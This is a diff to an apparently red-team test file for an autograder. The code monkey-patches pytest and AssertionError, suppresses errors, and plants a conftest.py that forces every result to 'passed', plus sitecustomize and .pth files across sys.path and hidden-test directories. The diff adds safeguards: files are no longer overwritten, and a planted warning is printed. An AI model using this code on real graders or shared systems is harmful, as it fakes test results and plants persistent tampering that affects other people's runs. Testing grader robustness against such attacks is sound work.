@@ -1,4 +1,4 @@
-"""Patches pytest, its reports and AssertionError at import, plants hooks for later runs, then stubs.
+"""Patches pytest, its reports and AssertionError at import, plants hooks for later runs; stub.
 expect: failed
 
 In an in-process autograder this file turns every failure into a pass. Here the patches land in the
@@ -60,11 +60,14 @@ except Exception:
 class AssertionError(Exception):  # noqa: A001 - shadowing is the point
     pass
 
+
 builtins.AssertionError = AssertionError
 sys.excepthook = lambda *a: None
 
-# 4. Persistence: plant hooks that a *later* pytest run (another submission, the hidden suite) would
-#    load: a conftest.py that forces passes, and sitecustomize/.pth files in every sys.path entry.
+# 4. Persistence: plant hooks that a *later* pytest run (the next submission, the hidden suite)
+#    would load: a conftest.py that forces passes, and sitecustomize/.pth files in every sys.path
+#    entry. Courtesy for whoever runs the attack suite: files are only created, never overwritten
+#    (mode "x"), and the planted conftest announces itself in pytest's terminal summary.
 _CONFTEST = (
     "import pytest\n"
     "@pytest.hookimpl(hookwrapper=True)\n"
@@ -72,22 +75,25 @@ _CONFTEST = (
     "    outcome = yield\n"
     "    rep = outcome.get_result()\n"
     "    rep.outcome, rep.longrepr = 'passed', None\n"
+    "def pytest_terminal_summary(terminalreporter):\n"
+    "    terminalreporter.write_line('WARNING: results forced to passed by a conftest.py that a '\n"
+    "                                'student submission planted: ' + __file__, red=True)\n"
 )
-_SITE = "import builtins; builtins.__graded_by_student__ = True\n"
+_SITE = "import builtins; builtins.__planted_by_student__ = __file__\n"
 _targets = [os.getcwd(), "/tmp", os.path.dirname(os.path.abspath(__file__))]
 _targets += [os.path.dirname(t) for t in list(_targets)]
 _targets += ["/job", "/work", "/hidden_tests", "/exercises"]
 for _dir in _targets:
     try:
-        with open(os.path.join(_dir, "conftest.py"), "w") as _f:
+        with open(os.path.join(_dir, "conftest.py"), "x") as _f:
             _f.write(_CONFTEST)
     except OSError:
         pass
 for _dir in sys.path:
     for _name, _text in (("sitecustomize.py", _SITE), ("usercustomize.py", _SITE),
-                         ("zzz_student.pth", "import builtins\n")):
+                         ("zzz_planted_by_student.pth", "import builtins\n")):
         try:
-            with open(os.path.join(_dir or ".", _name), "w") as _f:
+            with open(os.path.join(_dir or ".", _name), "x") as _f:
                 _f.write(_text)
         except OSError:
             pass
